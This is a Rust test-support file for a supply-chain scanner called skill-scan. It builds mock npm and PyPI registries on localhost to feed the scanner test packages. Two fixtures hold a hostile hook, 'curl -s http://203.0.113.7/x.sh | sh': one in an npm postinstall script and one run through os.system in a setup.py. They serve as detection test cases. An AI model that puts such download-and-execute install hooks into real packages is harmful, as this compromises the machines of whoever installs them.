#![allow(clippy::unwrap_used, dead_code)]
//! A mock npm registry and PyPI on 127.0.0.1 for the project tests (lockfiles, trees, MCP configs), and a
//! way to run skill-scan against them. Every package is built here in memory; nothing is installed or run.

use base64::Engine;
use sha2::{Digest, Sha256, Sha512};
use std::collections::HashMap;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Command, Output};

pub type Routes = HashMap<String, (u16, Vec<u8>)>;

pub fn serve(listener: TcpListener, routes: Routes) {
    std::thread::spawn(move || {
        let routes = std::sync::Arc::new(routes);
        for stream in listener.incoming() {
            let Ok(stream) = stream else { continue };
            let routes = routes.clone();
            std::thread::spawn(move || answer(stream, &routes));
        }
    });
}

fn answer(mut stream: TcpStream, routes: &Routes) {
    let mut request = Vec::new();
    let mut buf = [0u8; 1024];
    while !request.windows(4).any(|w| w == b"\r\n\r\n") && request.len() < 64 << 10 {
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => return,
            Ok(n) => request.extend_from_slice(&buf[..n]),
        }
    }
    let text = String::from_utf8_lossy(&request);
    let path = text.split_whitespace().nth(1).unwrap_or("/").to_string();
    let (status, body) = routes
        .get(&path)
        .cloned()
        .unwrap_or((404, b"{\"error\":\"Not found\"}".to_vec()));
    let head = format!(
        "HTTP/1.1 {status} X\r\nContent-Length: {}\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n",
        body.len()
    );
    let _ = stream.write_all(head.as_bytes());
    let _ = stream.write_all(&body);
}

pub fn tar_gz(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::default(),
    ));
    for (name, data) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        builder.append_data(&mut header, name, *data).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

pub fn sha256_hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

pub fn integrity(bytes: &[u8]) -> String {
    format!(
        "sha512-{}",
        base64::engine::general_purpose::STANDARD.encode(Sha512::digest(bytes))
    )
}

/// The mock registries, and the archives they serve (for the lockfiles' hashes).
pub struct Registries {
    /// npm registry base (`http://127.0.0.1:PORT`), also the PyPI JSON API's (`…/pypi/NAME/json`).
    pub base: String,
    /// name → archive bytes, npm and PyPI alike.
    pub archives: HashMap<String, Vec<u8>>,
}

impl Registries {
    pub fn env(&self) -> Vec<(String, String)> {
        vec![
            ("npm_config_registry".into(), format!("{}/", self.base)),
            ("PIP_INDEX_URL".into(), format!("{}/simple/", self.base)),
        ]
    }

    pub fn archive(&self, name: &str) -> &[u8] {
        &self.archives[name]
    }
}

const BENIGN_JS: &[u8] = b"module.exports = function add(a, b) { return a + b; };\n";

fn npm_manifest(name: &str, version: &str, postinstall: Option<&str>) -> Vec<u8> {
    let mut manifest = serde_json::json!({"name": name, "version": version, "main": "index.js"});
    if let Some(script) = postinstall {
        manifest["scripts"] = serde_json::json!({"postinstall": script});
    }
    manifest.to_string().into_bytes()
}

pub const EVIL_HOOK: &str = "curl -s http://203.0.113.7/x.sh | sh";

/// npm: `left` 1.0.0 and `right` 2.0.0 (harmless), `evil-pkg` 1.1.0 (a postinstall piping a download into
/// a shell), `tampered` 1.0.0 (harmless; the lockfiles pin other bytes for it). PyPI: `goodpy` 1.0,
/// `evilpy` 1.0 (setup.py runs a downloaded script), `tamperpy` 1.0. All published years ago.
pub fn registries() -> Registries {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let mut routes = Routes::new();
    let mut archives = HashMap::new();
    for (name, version, hook) in [
        ("left", "1.0.0", None),
        ("right", "2.0.0", None),
        ("evil-pkg", "1.1.0", Some(EVIL_HOOK)),
        ("tampered", "1.0.0", None),
    ] {
        let archive = tar_gz(&[
            ("package/package.json", &npm_manifest(name, version, hook)),
            ("package/index.js", BENIGN_JS),
        ]);
        let mut version_doc = serde_json::json!({"name": name, "version": version,
            "_npmUser": {"name": "alice"},
            "dist": {"tarball": format!("{base}/{name}/-/{name}-{version}.tgz"),
                     "integrity": integrity(&archive)}});
        if let Some(hook) = hook {
            version_doc["scripts"] = serde_json::json!({"postinstall": hook});
        }
        let document = serde_json::json!({
            "name": name,
            "dist-tags": {"latest": version},
            "time": {"created": "2015-03-01T00:00:00.000Z", version: "2015-03-01T00:00:00.000Z"},
            "versions": {version: version_doc}
        });
        routes.insert(format!("/{name}"), (200, document.to_string().into_bytes()));
        routes.insert(
            format!("/{name}/-/{name}-{version}.tgz"),
            (200, archive.clone()),
        );
        archives.insert(name.to_string(), archive);
    }
    for (name, setup) in [
        ("goodpy", "from setuptools import setup\nsetup(name='goodpy', version='1.0')\n"),
        (
            "evilpy",
            "import os\nfrom setuptools import setup\nos.system('curl -s http://203.0.113.7/x.sh | sh')\nsetup(name='evilpy', version='1.0')\n",
        ),
        ("tamperpy", "from setuptools import setup\nsetup(name='tamperpy', version='1.0')\n"),
    ] {
        let pkg_info = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n");
        let sdist = tar_gz(&[
            (&format!("{name}-1.0/PKG-INFO"), pkg_info.as_bytes()),
            (&format!("{name}-1.0/setup.py"), setup.as_bytes()),
        ]);
        let file_name = format!("{name}-1.0.tar.gz");
        let document = serde_json::json!({
            "info": {"name": name, "version": "1.0"},
            "releases": {"1.0": [{"filename": file_name, "packagetype": "sdist",
                "url": format!("{base}/packages/{file_name}"),
                "digests": {"sha256": sha256_hex(&sdist)},
                "upload_time_iso_8601": "2019-01-01T00:00:00.000000Z"}]}
        });
        routes.insert(format!("/pypi/{name}/json"), (200, document.to_string().into_bytes()));
        routes.insert(format!("/packages/{file_name}"), (200, sdist.clone()));
        archives.insert(name.to_string(), sdist);
    }
    serve(listener, routes);
    Registries { base, archives }
}

/// Runs skill-scan in `cwd` with an empty home (no real `.npmrc`, pip config or cache folder).
pub fn skill_scan(cwd: &Path, env: &[(String, String)], args: &[&str]) -> Output {
    let home = tempfile::tempdir().unwrap();
    let mut command = Command::new(env!("CARGO_BIN_EXE_skill-scan"));
    command
        .args(args)
        .current_dir(cwd)
        .env("HOME", home.path())
        .env("XDG_CACHE_HOME", home.path().join("cache"))
        .env_remove("npm_config_registry")
        .env_remove("NPM_CONFIG_REGISTRY")
        .env_remove("PIP_INDEX_URL")
        .env_remove("PIP_CONFIG_FILE");
    for (key, value) in env {
        command.env(key, value);
    }
    command.output().unwrap()
}

pub fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// The JSON report of a run, and each target's verdict by target name.
pub fn verdicts(out: &Output) -> (serde_json::Value, HashMap<String, String>) {
    let json: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}{}", text(&out.stdout), text(&out.stderr)));
    let map = json["targets"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| {
            let rules: Vec<&str> = t["findings"]
                .as_array()
                .unwrap()
                .iter()
                .filter_map(|f| f["rule_id"].as_str())
                .filter(|id| id.starts_with("SUP03") || id.starts_with("MCP01"))
                .collect();
            let key = match rules.first() {
                Some(rule) => format!("{} {rule}", t["target"].as_str().unwrap()),
                None => t["target"].as_str().unwrap().to_string(),
            };
            (key, t["verdict"].as_str().unwrap().to_string())
        })
        .collect();
    (json, map)
}

/// Runs git in `dir` with a fixed identity and no system or user config (the tests' repositories are throw-away).
pub fn git(dir: &Path, args: &[&str]) {
    let out = std::process::Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.invalid")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {}", text(&out.stderr));
}
